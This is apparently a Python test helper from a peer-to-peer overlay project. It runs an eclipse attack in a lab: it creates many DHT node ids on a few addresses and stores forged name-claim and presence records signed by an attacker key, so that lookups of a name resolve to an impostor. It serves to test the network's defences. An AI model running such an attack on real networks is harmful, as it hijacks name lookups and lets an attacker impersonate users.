"""Mallory's eclipse attempt on a name, as a real process: many DHT node ids on a few
addresses of one /24, each holding a forged claim on the name (and a presence record under
it) signed by mallory's own key, and taking nothing others hand them.

Run inside a lab host (``python -m tests.helpers.dht_eclipse_attacker``)::

    --ips 198.18.66.1,198.18.66.2 --per-ip 4 --bootstrap 198.18.0.10:4000 --name alice

It prints one JSON line ``{"event": "ready", "impostor_key": hex, "ids": [hex, ...]}`` once
every node has joined, then ``{"event": "stats", "asked": n}`` (requests its nodes served)
each second, and runs until killed. The node code is the project's own: an attacker needs
nothing else (ids that satisfy the network's rules, and signed records of its own keys).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import time

from overlay.core import records
from overlay.core.identity import Identity
from overlay.dht import DHTConfig, DHTNode
from overlay.dht.storage import StorageLimits


def node_identity() -> Identity:
    """An id the network accepts: mallory pays the id puzzle like anyone (about a second of
    key generation per id at the network's difficulty)."""
    return Identity.generate_node(DHTConfig().id_puzzle_bits)


def forged_records(mallory: Identity, name: str, ip: str) -> list[records.SignedRecord]:
    now = time.time()
    return [
        records.name_claim(mallory, name, seq=int(now * 1000)),
        records.presence(mallory, name, "phone", seq=int(now * 1000),
                         supernode_key=Identity.generate().public_key,
                         supernode_host=ip, supernode_port=4000, lifetime_s=3600.0),
    ]


async def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--ips", required=True)
    parser.add_argument("--per-ip", type=int, default=4)
    parser.add_argument("--bootstrap", required=True)
    parser.add_argument("--name", required=True)
    args = parser.parse_args()
    host, port = args.bootstrap.rsplit(":", 1)
    mallory = Identity.generate()
    nodes: list[DHTNode] = []
    for ip in args.ips.split(","):
        forged = forged_records(mallory, args.name, ip)
        for _ in range(args.per_ip):
            node = DHTNode(node_identity(), DHTConfig(refresh_interval_s=30),
                           StorageLimits(max_entries=len(forged)))
            for signed in forged:
                node.store_local(signed.wire, signed.dht_key)
            await node.start(ip, 0)
            nodes.append(node)
    await asyncio.gather(*(n.bootstrap([(host, int(port))]) for n in nodes))
    print(json.dumps({"event": "ready", "impostor_key": mallory.public_key.hex(),
                      "ids": [n.node_id.hex() for n in nodes]}), flush=True)
    while True:
        await asyncio.sleep(1.0)
        asked = sum(sum(n.stats.requests_in.values()) for n in nodes)
        print(json.dumps({"event": "stats", "asked": asked}), flush=True)


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(0)
